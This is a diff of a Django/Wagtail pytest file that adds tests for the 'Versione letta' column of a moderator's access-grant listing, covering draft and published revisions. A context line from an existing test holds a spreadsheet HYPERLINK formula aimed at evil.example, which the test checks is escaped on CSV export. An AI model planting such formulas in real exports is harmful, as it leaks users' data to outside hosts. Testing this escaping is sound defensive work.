@@ -7,9 +7,11 @@ import re
 from urllib.parse import urlsplit
 
 import pytest
+from bs4 import BeautifulSoup
 from django.core import mail
 from django.urls import reverse
-from django.utils import timezone
+from django.utils import timezone, translation
+from django.utils.formats import date_format
 from wagtail.models import PageLogEntry, Site
 
 from earlyaccess.models import Grant, Opening, Recipient
@@ -225,3 +227,55 @@ def test_the_openings_csv_shows_a_formula_typed_as_a_name_as_text(moderator_clie
     assert rows[1][1] == '\'=HYPERLINK("https://evil.example/?"&A1, "Click")'
     assert rows[1][2] == "'+39 Press"
     assert rows[1][5] == "it", "plain values are unchanged"
+
+
+def versions_read(response):
+    """The "Version read" cell of each row of the links given, as the Moderator reads it."""
+    soup = BeautifulSoup(response.content, "html.parser")
+    column = [th.get_text(strip=True) for th in soup.select("table.listing thead th")].index("Versione letta")
+    return {
+        row.select("td")[0].get_text(" ", strip=True).split(" (")[0]: " ".join(
+            row.select("td")[column].get_text(" ", strip=True).split()
+        )
+        for row in soup.select("table.listing tbody tr")
+    }
+
+
+@pytest.mark.django_db
+def test_the_links_given_show_the_version_each_recipient_reads(moderator_client, moderator, dossier, juror):
+    moderator.first_name, moderator.last_name = "Carla", "Bruno"
+    moderator.save()
+    given = dossier.save_revision(user=moderator)
+    grant(juror, dossier, Grant.DOSSIER)
+    when = date_format(timezone.localtime(given.created_at), "DATETIME_FORMAT")
+
+    with translation.override("it"):
+        before = versions_read(moderator_client.get(grants_url(dossier)))
+        dossier.title = "Dossier rivisto"
+        dossier.save_revision()  # a later draft: not what the juror reads
+        later = make_recipient("Piet Jansen", "iCapital jury", kind=Recipient.JUROR)
+        grant(later, dossier, Grant.DOSSIER)
+        after = versions_read(moderator_client.get(grants_url(dossier)))
+
+    assert before == {"Ana Sousa": f"Italiano: la versione del {when}, di Carla Bruno"}
+    assert after["Ana Sousa"].startswith(f"Italiano: la versione del {when}, di Carla Bruno Modificata da allora")
+    assert "Modificata" not in after["Piet Jansen"], "a new access shows the newer version"
+
+
+@pytest.mark.django_db
+def test_a_published_release_is_read_as_published(moderator_client, moderator, release):
+    with before_the_embargo():
+        published = release["it"].save_revision(user=moderator)
+        published.publish(user=moderator)
+    _item, _token = grant(make_recipient(), release["it"], Grant.RELEASE)
+    when = date_format(timezone.localtime(published.created_at), "DATETIME_FORMAT")
+    with before_the_embargo(), translation.override("it"):
+        before = versions_read(moderator_client.get(grants_url(release["it"])))
+        release["it"].save_revision(user=moderator)  # a draft: the recipient reads it once it is published
+        after = versions_read(moderator_client.get(grants_url(release["it"])))
+
+    assert before["Giulia Ferri"].startswith("English: la versione pubblicata, del ")
+    assert f"Italiano: la versione pubblicata, del {when}" in before["Giulia Ferri"]
+    assert "Modificata" not in before["Giulia Ferri"]
+    assert "Italiano: la versione pubblicata" in after["Giulia Ferri"]
+    assert "non ancora pubblicata: il destinatario leggerà le modifiche" in after["Giulia Ferri"]
